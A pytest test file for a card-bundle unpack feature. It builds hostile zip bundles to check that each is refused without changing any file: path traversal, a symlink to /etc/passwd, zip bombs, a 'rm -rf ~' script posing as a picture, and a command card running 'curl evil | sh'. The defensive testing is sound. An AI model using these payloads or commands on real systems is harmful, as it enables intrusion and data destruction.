"""Card bundles: a round trip, and every hostile bundle refused without changing a single file."""

from __future__ import annotations

import hashlib
import os
import shutil
import stat
import struct
import zipfile
from pathlib import Path, PurePosixPath

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cards.bundle import (
    MAX_FILES,
    MAX_TOTAL_BYTES,
    SETS_DIR,
    BundleError,
    Entry,
    check_entries,
    pack_bundle,
    unpack_bundle,
)
from cards.registry import load_registry
from tests.conftest import REPO

DEMO = REPO / "config" / "demo-cards.yaml"
PNG = (REPO / "config" / "demo" / "pictures" / "anna.png").read_bytes()
CARDS = (
    'version: 1\ncards:\n  - uid: "04AA"\n    label: Anna\n    picture: pictures/anna.png\n'
    "    action: {type: web, url: 'https://example.se'}\n"
)


def tree_hash(folder: Path) -> str:
    """Every name, kind, mode and byte under ``folder``: equal hashes mean nothing changed."""
    h = hashlib.sha256()
    for root, dirs, files in os.walk(folder):
        dirs.sort()
        for name in sorted(dirs + files):
            path = Path(root) / name
            st_ = path.lstat()
            h.update(f"{path.relative_to(folder)}|{stat.S_IFMT(st_.st_mode)}|{st_.st_mode & 0o777}\n".encode())
            if path.is_file() and not path.is_symlink():
                h.update(path.read_bytes())
    return h.hexdigest()


@pytest.fixture
def home(klick_home) -> Path:
    """A device with the demo card set already on it, as the files a carer left there."""
    shutil.copy(DEMO, klick_home / "cards.yaml")
    shutil.copytree(REPO / "config" / "demo", klick_home / "demo")
    assert not load_registry(klick_home / "cards.yaml").warnings
    return klick_home


def make_zip(path: Path, members: list[tuple[str, bytes]], *, mode: int = stat.S_IFREG | 0o644) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            zf.writestr(info, data)
    return path


# --- the round trip ----------------------------------------------------------------------------


def test_pack_then_unpack_round_trip_through_the_real_command(klick, home, tmp_path):
    bundle = tmp_path / "mamma.klick"
    result = klick("cards", "pack", "--registry", str(DEMO), "--out", str(bundle))
    assert result.returncode == 0, result.stderr
    assert "Packed 5 cards" in result.stdout
    with zipfile.ZipFile(bundle) as zf:
        names = zf.namelist()
        text = zf.read("cards.yaml").decode()
    assert "cards.yaml" in names and "pictures/anna.png" in names and "albums/album/2026-06-midsommar.png" in names
    assert "picture: pictures/anna.png" in text and "folder: albums/album" in text

    old_text = (home / "cards.yaml").read_text()
    result = klick("cards", "unpack", str(bundle), "--allow-server", "meet.jit.si")
    assert result.returncode == 0, result.stderr
    assert "Add the server to calls.allowed_servers" in result.stderr  # accepted knowingly, not listed
    assert "Unpacked 5 cards" in result.stdout and "cards.yaml.bak" in result.stdout
    listing = klick("cards", "list")
    assert listing.returncode == 0 and "5 cards" in listing.stdout and "Vädret" in listing.stdout

    new = load_registry(home / "cards.yaml")
    demo = load_registry(DEMO)
    assert not new.warnings
    for a, b in zip(new.cards, demo.cards):
        assert (a.uid, a.label, a.colour, a.on_remove, a.role) == (b.uid, b.label, b.colour, b.on_remove, b.role)
        assert a.picture.read_bytes() == b.picture.read_bytes()
        assert SETS_DIR in a.picture.parts
    album = new.get("04D3E4F5061728").action.folder
    assert sorted(p.name for p in album.iterdir()) == sorted(p.name for p in demo.get("04D3E4F5061728").action.folder.iterdir())
    # The old set is the backup, whole: its file and the pictures it names.
    assert (home / "cards.yaml.bak").read_text() == old_text
    backup = load_registry(home / "cards.yaml.bak")
    assert not backup.warnings and all(card.picture.is_file() for card in backup.cards)


def test_unpack_on_a_new_device_creates_the_card_file(klick_home, tmp_path):
    bundle = make_zip(tmp_path / "b.klick", [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG)])
    target = klick_home / "new-folder" / "cards.yaml"
    result = unpack_bundle(bundle, target)
    assert result.cards == 1 and result.backup is None
    assert load_registry(target).get("04AA").picture.read_bytes() == PNG


def test_older_unpacked_sets_go_once_nothing_names_them(home, tmp_path):
    bundle = make_zip(tmp_path / "b.klick", [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG)])
    first = unpack_bundle(bundle, home / "cards.yaml").folder
    second = unpack_bundle(bundle, home / "cards.yaml").folder
    assert first.is_dir() and second.is_dir()  # the backup still names the first
    third = unpack_bundle(bundle, home / "cards.yaml").folder
    assert not first.exists() and second.is_dir() and third.is_dir()
    assert (home / "demo" / "pictures" / "anna.png").is_file()  # files outside card-sets are never touched


def test_pack_leaves_out_a_missing_picture_with_a_note_and_still_unpacks(home, tmp_path):
    (home / "demo" / "pictures" / "web.png").unlink()
    registry = load_registry(home / "cards.yaml")
    result = pack_bundle(registry, home / "cards.yaml", tmp_path / "b.klick")
    assert any("web.png" in note and "does not exist" in note for note in result.notes)
    unpacked = unpack_bundle(tmp_path / "b.klick", home / "cards.yaml", allowed_servers=["https://meet.jit.si"])
    assert unpacked.cards == 5
    assert load_registry(home / "cards.yaml").get("0012345678").picture is None


def test_a_command_card_unpacks_with_a_note_about_it(home, tmp_path):
    text = 'version: 1\ncards:\n  - uid: "0A"\n    label: Klocka\n    action: {type: command, argv: [xclock]}\n'
    bundle = make_zip(tmp_path / "b.klick", [("cards.yaml", text.encode())])
    result = unpack_bundle(bundle, home / "cards.yaml", allow_commands=True)
    assert any("xclock" in note for note in result.notes)


# --- hostile bundles: refused, and nothing changed ----------------------------------------------


def _lying_sizes(path: Path) -> Path:
    """A member whose header says 100 bytes while it inflates to 2 MB."""
    make_zip(path, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", b"\0" * 2_000_000)])
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("pictures/anna.png")
    struct.pack_into("<I", data, info.header_offset + 22, 100)  # local header
    cd = data.find(b"PK\x01\x02")  # central entries
    while cd >= 0:
        name_len = struct.unpack_from("<H", data, cd + 28)[0]
        if data[cd + 46 : cd + 46 + name_len] == b"pictures/anna.png":
            struct.pack_into("<I", data, cd + 24, 100)  # central directory
        cd = data.find(b"PK\x01\x02", cd + 4)
    path.write_bytes(bytes(data))
    return path


def _encrypted(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("cards.yaml", CARDS)
        info = zipfile.ZipInfo("pictures/anna.png")
        zf.writestr(info, PNG)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("pictures/anna.png")
    struct.pack_into("<H", data, info.header_offset + 6, 1)
    cd = data.find(b"PK\x01\x02")
    while cd >= 0:
        name_len = struct.unpack_from("<H", data, cd + 28)[0]
        if data[cd + 46 : cd + 46 + name_len] == b"pictures/anna.png":
            struct.pack_into("<H", data, cd + 8, 1)
        cd = data.find(b"PK\x01\x02", cd + 4)
    path.write_bytes(bytes(data))
    return path


def _symlink(path: Path) -> Path:
    make_zip(path, [("cards.yaml", CARDS.encode())])
    with zipfile.ZipFile(path, "a") as zf:
        info = zipfile.ZipInfo("pictures/anna.png")
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/etc/passwd")
    return path


def _huge(path: Path) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("cards.yaml", CARDS)
        with zf.open(zipfile.ZipInfo("pictures/anna.png"), "w", force_zip64=True) as out:
            block = b"\0" * (1024 * 1024)
            for _ in range(MAX_TOTAL_BYTES // len(block) + 1):
                out.write(block)
    return path


def _too_many(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("cards.yaml", CARDS)
        for n in range(MAX_FILES + 1):
            zf.writestr(f"pictures/{n}.png", b"")
    return path


def _duplicate(path: Path) -> Path:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return make_zip(path, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG), ("pictures/anna.png", PNG)])


def _image(fmt: str) -> bytes:
    """A tiny real picture in ``fmt``: a format Pillow reads, but not one a card picture may be."""
    import io

    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (8, 8), "red").save(out, fmt)
    return out.getvalue()


def _png_header(width: int, height: int) -> bytes:
    """A PNG whose header claims ``width`` x ``height`` pixels, with almost no data behind it."""
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 10)) + chunk(b"IEND", b"")


EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(pwned) print showpage\n"


HOSTILE = {
    "dotdot": (lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("../evil", b"x")]), "outside the bundle"),
    "dotdot_inside": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/../../evil.png", PNG)]),
        "outside the bundle",
    ),
    "absolute": (lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("/tmp/evil.png", PNG)]), "absolute path"),
    "drive": (lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("C:/evil.png", PNG)]), "absolute path"),
    "backslash": (lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures\\..\\..\\evil.png", PNG)]), "backslash"),
    "symlink": (_symlink, "symbolic link"),
    "fifo": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/pipe", b"")], mode=stat.S_IFIFO | 0o644),
        "special file",
    ),
    "over_100_mb": (_huge, "at most 100 MB"),
    "lying_sizes": (_lying_sizes, "damaged"),
    "too_many_files": (_too_many, "at most 2000"),
    "duplicate": (_duplicate, "twice"),
    "duplicate_case": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG), ("pictures/ANNA.png", PNG)]),
        "twice",
    ),
    "file_and_folder": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/a", PNG), ("pictures/a/b.png", PNG)]),
        "both a file and a folder",
    ),
    "settings_file": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("klick.yaml", b"browser: {command: [sh]}")]),
        "not part of a card set",
    ),
    "encrypted": (_encrypted, "encrypted"),
    "not_a_zip": (lambda p: (p.write_text("cards:\n"), p)[1], "not a zip file"),
    "truncated": (
        lambda p: (
            p.write_bytes(make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG)]).read_bytes()[:-30]),
            p,
        )[1],
        "not a zip file",
    ),
    "no_cards": (lambda p: make_zip(p, [("pictures/anna.png", PNG)]), "no cards.yaml"),
    "broken_yaml": (lambda p: make_zip(p, [("cards.yaml", b"cards:\n  - uid: [\n")]), "card file has problems"),
    "not_utf8": (lambda p: make_zip(p, [("cards.yaml", "label: \xe5".encode("latin-1"))]), "not UTF-8"),
    "picture_not_image": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", b"#!/bin/sh\nrm -rf ~\n")]),
        "not a picture",
    ),
    "picture_outside": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.replace("pictures/anna.png", "/etc/hostname").encode())]),
        "outside the bundle",
    ),
    "picture_escapes": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.replace("pictures/anna.png", "../cards.yaml").encode())]),
        "outside the bundle",
    ),
    "picture_missing": (lambda p: make_zip(p, [("cards.yaml", CARDS.encode())]), "not in the bundle"),
    # attack2: what else a hostile or damaged bundle held
    "folder_named_like_a_file": (
        lambda p: make_zip(
            p,
            [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG), ("pictures/x", b"")],
            mode=stat.S_IFDIR | 0o755,
        ),
        "marked as a folder but named like a file",
    ),
    "eps_named_png": (lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", EPS)]), "not a picture"),
    "tiff_named_png": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", _image("TIFF"))]),
        "not a picture",
    ),
    "ico_in_an_album": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG), ("albums/a/x.png", _image("ICO"))]),
        "not a picture",
    ),
    "svg_named_png": (
        lambda p: make_zip(
            p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", b'<svg xmlns="http://www.w3.org/2000/svg"/>')]
        ),
        "not a picture",
    ),
    "zip_named_png": (
        lambda p: make_zip(
            p,
            [
                ("cards.yaml", CARDS.encode()),
                ("pictures/anna.png", make_zip(p.with_suffix(".inner"), [("a", b"\0" * 100000)]).read_bytes()),
            ],
        ),
        "not a picture",
    ),
    "png_header_of_50000_by_50000": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", _png_header(50000, 50000))]),
        "not a picture",
    ),
    "png_header_of_10000_by_7000": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", _png_header(10000, 7000))]),
        "far too large",
    ),
    "picture_is_the_card_file": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.replace("pictures/anna.png", "cards.yaml").encode())]),
        "(cards.yaml) is not a picture",
    ),
    "name_turns_text_around": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG), ("pictures/a\u202egnp.exe", PNG)]),
        "hidden or control character",
    ),
    "name_with_a_delete_character": (
        lambda p: make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG), ("pictures/a\x7f.png", PNG)]),
        "hidden or control character",
    ),
    "same_name_in_nfc_and_nfd": (
        lambda p: make_zip(
            p,
            [
                ("cards.yaml", CARDS.encode()),
                ("pictures/anna.png", PNG),
                ("pictures/\u00e5.png", PNG),
                ("pictures/a\u030a.png", PNG),
            ],
        ),
        "twice",
    ),
    "card_file_as_a_folder": (lambda p: make_zip(p, [("cards.yaml/", b"")]), "not part of a card set"),
    "empty_zip": (lambda p: make_zip(p, []), "no cards.yaml"),
    "cut_in_the_middle": (
        lambda p: (
            p.write_bytes(make_zip(p, [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG)]).read_bytes()[:300]),
            p,
        )[1],
        "not a zip file",
    ),
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_bundle_is_refused_and_nothing_changes(kind, home, tmp_path):
    build, words = HOSTILE[kind]
    bundle = build(tmp_path / f"{kind}.klick")
    before = tree_hash(home)
    with pytest.raises(BundleError) as caught:
        unpack_bundle(bundle, home / "cards.yaml")
    said = " ".join([str(caught.value), *(p.message for p in caught.value.problems)])
    assert words in said, said
    assert tree_hash(home) == before
    assert not (tmp_path / "evil").exists() and not Path("/tmp/evil.png").exists()


def test_unpack_of_dotdot_evil_exits_1_and_changes_nothing(klick, home, tmp_path):
    bundle = make_zip(
        tmp_path / "evil.klick", [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG), ("../evil", b"gotcha")]
    )
    before = tree_hash(home)
    result = klick("cards", "unpack", str(bundle))
    assert result.returncode == 1
    assert "../evil" in result.stderr and "outside the bundle" in result.stderr and "Nothing was changed" in result.stderr
    assert "Traceback" not in result.stderr
    assert tree_hash(home) == before
    assert not (home.parent / "evil").exists()


def test_refusal_on_a_new_device_leaves_no_folder_behind(klick_home, tmp_path):
    bundle = make_zip(tmp_path / "b.klick", [("cards.yaml", CARDS.encode()), ("pictures/anna.png", b"not a png")])
    with pytest.raises(BundleError):
        unpack_bundle(bundle, klick_home / "fresh" / "cards.yaml")
    assert list(klick_home.iterdir()) == []


# --- the name rules, hammered --------------------------------------------------------------------

_PARTS = st.sampled_from(["cards.yaml", "pictures", "albums", "..", ".", "", "a.png", "b", "/", "\\", "C:", "..\\x", "é"])


@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(_PARTS, min_size=1, max_size=5).map("/".join), min_size=1, max_size=6))
def test_accepted_names_always_stay_inside_the_bundle(names):
    entries = [Entry(name, 10) for name in names]
    if check_entries(entries):
        return
    root = Path("/bundle-root")
    for entry in entries:
        assert not PurePosixPath(entry.name).is_absolute()
        resolved = os.path.normpath(root.joinpath(*entry.name.rstrip("/").split("/")))
        assert resolved.startswith(str(root) + "/")
        assert entry.name == "cards.yaml" or entry.name.split("/")[0] in ("pictures", "albums")


def test_declared_total_is_checked_before_anything_is_read():
    entries = [Entry("cards.yaml", 100), Entry("pictures/a.png", MAX_TOTAL_BYTES)]
    assert any("at most 100 MB" in r for r in check_entries(entries))
    assert check_entries([Entry("cards.yaml", 100), Entry("pictures/", 0), Entry("pictures/a.png", 10)]) == []


# --- one size limit for the card file, before any parsing (issue 10 item 9) ----------------------


def _no_parsing(*args, **kwargs):
    raise AssertionError("the card file was parsed although it is too big")


@pytest.mark.parametrize("megabytes", [10, 2])
def test_a_bundle_with_an_oversized_card_file_is_refused_before_parsing(megabytes, home, tmp_path, monkeypatch):
    import yaml

    big = CARDS.encode() + b"# " + b"x" * (megabytes * 1_000_000) + b"\n"
    bundle = tmp_path / "big.klick"
    with zipfile.ZipFile(bundle, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("cards.yaml", big)
        zf.writestr("pictures/anna.png", PNG)
    assert bundle.stat().st_size < 100_000  # a small file on the stick
    monkeypatch.setattr(yaml, "compose_all", _no_parsing)
    before = tree_hash(home)
    with pytest.raises(BundleError) as caught:
        unpack_bundle(bundle, home / "cards.yaml", allowed_servers=["https://meet.jit.si"])
    assert f"its cards.yaml: this card file is {megabytes}.0 MB; a card file is at most 1 MB" in str(caught.value)
    assert tree_hash(home) == before


def test_a_card_file_that_lies_about_its_size_is_refused_as_damaged(home, tmp_path):
    path = make_zip(tmp_path / "lie.klick", [("cards.yaml", CARDS.encode() + b"#" * 2_000_000), ("pictures/anna.png", PNG)])
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("cards.yaml")
    struct.pack_into("<I", data, info.header_offset + 22, 100)
    cd = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, cd + 24, 100)
    path.write_bytes(bytes(data))
    before = tree_hash(home)
    with pytest.raises(BundleError):
        unpack_bundle(path, home / "cards.yaml")
    assert tree_hash(home) == before


# --- what a tablet takes: command cards and call servers (issue 10 item 8) -----------------------

POLICY_CARDS = (
    'version: 1\ncards:\n  - uid: "04AA"\n    label: Anna\n    picture: pictures/anna.png\n'
    "    action: {type: video_call, provider: jitsi, server: 'https://meet.example.se', room: familjen}\n"
    '  - uid: "04BB"\n    label: Klocka\n    action: {type: command, argv: [sh, -c, "curl evil | sh"]}\n'
    '  - uid: "04CC"\n    label: Mormor\n    action:\n      type: video_call\n      provider: jitsi\n'
    "      server: https://evil.example:8443/x\n      room: hej\n"
)


@pytest.fixture
def policy_bundle(tmp_path) -> Path:
    return make_zip(tmp_path / "gift.klick", [("cards.yaml", POLICY_CARDS.encode()), ("pictures/anna.png", PNG)])


def test_unpack_refuses_command_cards_and_unlisted_call_servers_naming_each_card(klick, home, policy_bundle):
    (home / "klick.yaml").write_text("calls:\n  allowed_servers:\n    - meet.example.se\n")
    before = tree_hash(home)
    result = klick("cards", "unpack", str(policy_bundle))
    assert result.returncode == 1, result.stderr
    assert 'cards.yaml in gift.klick:9: card "Klocka" (04BB) starts the program sh' in result.stderr
    assert 'cards.yaml in gift.klick:15: card "Mormor" (04CC) calls https://evil.example:8443' in result.stderr
    assert "Anna" not in result.stderr  # its server is on the list
    assert "Nothing was changed" in result.stderr and "--allow-commands" in result.stderr and "--allow-server" in result.stderr
    assert "Traceback" not in result.stderr
    assert tree_hash(home) == before


def test_allow_commands_and_allow_server_accept_them_knowingly(klick, home, policy_bundle):
    (home / "klick.yaml").write_text("calls:\n  allowed_servers:\n    - meet.example.se\n")
    only_commands = klick("cards", "unpack", str(policy_bundle), "--allow-commands")
    assert only_commands.returncode == 1 and "Mormor" in only_commands.stderr and "Klocka" not in only_commands.stderr
    result = klick("cards", "unpack", str(policy_bundle), "--allow-commands", "--allow-server", "https://evil.example:8443")
    assert result.returncode == 0, result.stderr
    assert "Unpacked 3 cards" in result.stdout
    # The launcher goes by klick.yaml, so the installer is told the server is still not listed there.
    assert "Mormor" in result.stderr and "Add the server to calls.allowed_servers" in result.stderr
    assert load_registry(home / "cards.yaml").get("04BB").action.argv[0] == "sh"


def test_allow_server_that_is_not_a_server_is_a_usage_error(klick, home, policy_bundle):
    result = klick("cards", "unpack", str(policy_bundle), "--allow-server", "https://u:p@evil.example")
    assert result.returncode == 2 and "--allow-server" in result.stderr and "is not a server address" in result.stderr
    assert "Traceback" not in result.stderr


# --- who may read an unpacked set (issue 10 item 10) ---------------------------------------------


def test_unpacked_card_set_is_readable_by_the_card_folders_owner_and_group(home, tmp_path):
    bundle = make_zip(tmp_path / "b.klick", [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG)])
    if os.geteuid() == 0:
        # As with `sudo klick cards unpack`: everything goes to the folder's owner (here nobody).
        os.chown(home, 65534, 65534)
    folder_owner = (home.stat().st_uid, home.stat().st_gid)
    result = unpack_bundle(bundle, home / "cards.yaml")
    tree = [result.folder, *result.folder.rglob("*")]
    assert any(p.is_file() for p in tree) and any(p.is_dir() for p in tree)
    for path in tree:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o750 if path.is_dir() else 0o640), (path, oct(mode))
        assert path.stat().st_gid == folder_owner[1], path
        if os.geteuid() == 0:
            assert path.stat().st_uid == folder_owner[0], path
    sets = (home / SETS_DIR).stat()  # made by this unpack, so handed over too
    assert stat.S_IMODE(sets.st_mode) == 0o750 and sets.st_gid == folder_owner[1]
    if os.geteuid() == 0:
        card_file = (home / "cards.yaml").stat()
        assert (card_file.st_uid, card_file.st_gid) == folder_owner and sets.st_uid == folder_owner[0]


# --- what held, kept (attack2) -------------------------------------------------------------------


def test_a_bundle_with_a_64_kb_comment_long_names_and_odd_but_harmless_bits_unpacks(home, tmp_path):
    bundle = make_zip(
        tmp_path / "odd.klick",
        [
            ("cards.yaml", CARDS.encode()),
            ("pictures/anna.png", PNG),
            ("pictures/" + "a" * 250 + ".png", PNG),  # 254 bytes: the longest name a disk takes
            ("pictures/" + "/".join(["d" * 40] * 8) + "/x.png", PNG),
        ],
        mode=stat.S_IFREG | 0o6777,  # setuid, setgid, world-writable: never kept
    )
    with zipfile.ZipFile(bundle, "a") as zf:
        zf.comment = b"x" * 65535
    result = unpack_bundle(bundle, home / "cards.yaml")
    for path in result.folder.rglob("*"):
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & (stat.S_ISUID | stat.S_ISGID | stat.S_IWOTH) == 0, (path, oct(mode))
    assert (result.folder / "pictures" / ("a" * 250 + ".png")).is_file()


def test_only_the_picture_formats_klick_shows_are_opened_anywhere(tmp_path):
    """Checking a bundle, the carer window's thumbnails and printing all open pictures through one rule."""
    from cards.carer.pictures import make_thumb
    from cards.model import Card, Web
    from cards.pictures import PICTURE_FORMATS
    from cards.printing import render_cards

    assert PICTURE_FORMATS == ("PNG", "JPEG", "GIF", "WEBP", "BMP")
    eps, tiff = tmp_path / "eps.png", tmp_path / "tiff.png"
    eps.write_bytes(EPS)
    tiff.write_bytes(_image("TIFF"))
    for path in (eps, tiff):
        assert make_thumb(path).problem == "unreadable", path
    good = tmp_path / "good.png"
    good.write_bytes(PNG)
    assert make_thumb(good).problem is None
    cards = [Card(uid="04AA", label="A", action=Web("https://a.se"), picture=p) for p in (eps, tiff, good)]
    out = tmp_path / "faces.pdf"
    render_cards(cards, out)
    assert out.read_bytes().count(b"/Subtype /Image") == 1  # the PNG only


def test_an_unpack_waits_for_another_change_to_the_same_card_set(home, tmp_path):
    """Two unpacks at once each removed the other's new pictures: the card file named pictures that were gone."""
    import subprocess
    import sys
    import time

    bundle = make_zip(tmp_path / "b.klick", [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG)])
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time\nfrom pathlib import Path\nfrom cards.registry import card_set_lock\n"
            "with card_set_lock(Path(sys.argv[1])):\n    print('held', flush=True)\n    time.sleep(2)\n",
            str(home),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout is not None and holder.stdout.readline() == "held\n"
    held_at = time.monotonic()  # the holder lets go 2 s from now
    before = tree_hash(home)
    with pytest.raises(BundleError, match="Another program is changing the cards in .* right now"):
        unpack_bundle(bundle, home / "cards.yaml", lock_wait=0.2)
    assert tree_hash(home) == before
    result = unpack_bundle(bundle, home / "cards.yaml")  # waits for the holder, then goes ahead
    assert time.monotonic() - held_at >= 1.5
    assert holder.wait(timeout=30) == 0
    assert result.folder.is_dir() and load_registry(home / "cards.yaml").cards[0].picture.is_file()


def test_two_unpacks_at_once_leave_one_whole_card_set(home, tmp_path):
    import subprocess

    from tests.conftest import KLICK

    bundles = [make_zip(tmp_path / f"{n}.klick", [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG)]) for n in "ab"]
    for _ in range(4):
        runs = [
            subprocess.Popen([KLICK, "cards", "unpack", str(b)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
            for b in bundles
        ]
        for proc in runs:
            assert proc.wait(timeout=60) == 0, proc.stderr.read() if proc.stderr else ""
        registry = load_registry(home / "cards.yaml")
        assert not registry.warnings and all(card.picture.is_file() for card in registry.cards if card.picture)


def test_a_killed_unpack_leaves_the_old_set_and_the_next_unpack_clears_its_folder(home, tmp_path):
    import signal
    import subprocess
    import time

    from tests.conftest import KLICK

    big = tmp_path / "big.klick"
    with zipfile.ZipFile(big, "w") as zf:
        zf.writestr("cards.yaml", CARDS)
        zf.writestr("pictures/anna.png", PNG)
        for n in range(40):
            zf.writestr(f"albums/a/{n}.png", PNG + os.urandom(1024 * 1024))
    before = (home / "cards.yaml").read_bytes()
    proc = subprocess.Popen([KLICK, "cards", "unpack", str(big)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 30
    while not list((home / SETS_DIR).glob(".incoming-*/albums/a/*.png")) and time.monotonic() < deadline:
        time.sleep(0.01)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    assert (home / "cards.yaml").read_bytes() == before  # killed before the swap: the old set, whole
    assert list((home / SETS_DIR).glob(".incoming-*")), "the kill came too late to leave a half-unpacked folder"
    small = make_zip(tmp_path / "small.klick", [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG)])
    unpack_bundle(small, home / "cards.yaml")
    assert not list((home / SETS_DIR).glob(".incoming-*"))  # up to 100 MB each, no longer kept for an hour


def _small_disk(tmp_path: Path, options: str) -> Path:
    import subprocess

    if os.geteuid() != 0:
        pytest.skip("needs root to mount a small disk")
    disk = tmp_path / "disk"
    disk.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(disk)], capture_output=True).returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    return disk


@pytest.mark.parametrize(
    "options, after, words",
    [
        ("size=100m,nr_inodes=30", None, "No space left on device"),
        ("size=40m", "remount,ro", "Read-only file system"),
    ],
)
def test_unpack_onto_a_full_or_read_only_disk_changes_nothing_and_says_so(klick, tmp_path, options, after, words):
    import subprocess

    disk = _small_disk(tmp_path, options)
    try:
        shutil.copy(DEMO, disk / "cards.yaml")
        if after:
            subprocess.run(["mount", "-o", after, str(disk)], check=True)
        bundle = tmp_path / "big.klick"
        with zipfile.ZipFile(bundle, "w") as zf:
            zf.writestr("cards.yaml", CARDS)
            zf.writestr("pictures/anna.png", PNG)
            for n in range(60):
                zf.writestr(f"albums/a/{n}.png", PNG)
        before = tree_hash(disk)
        result = klick("cards", "unpack", str(bundle), "--registry", str(disk / "cards.yaml"))
        assert result.returncode == 1 and f"could not be unpacked into {disk}: {words}. Nothing was changed." in result.stderr, (
            result.stderr
        )
        assert tree_hash(disk) == before
    finally:
        subprocess.run(["umount", str(disk)], check=False)


def test_a_disk_too_small_for_a_bundle_says_what_stays_free(klick, tmp_path):
    import subprocess

    disk = _small_disk(tmp_path, "size=10m")
    try:
        shutil.copy(DEMO, disk / "cards.yaml")
        bundle = make_zip(tmp_path / "b.klick", [("cards.yaml", CARDS.encode()), ("pictures/anna.png", PNG)])
        result = klick("cards", "unpack", str(bundle), "--registry", str(disk / "cards.yaml"))
        assert result.returncode == 1, result.stderr
        assert "and 10 MB must stay free beside it for the usage log; the disk has only" in result.stderr, result.stderr
    finally:
        subprocess.run(["umount", str(disk)], check=False)
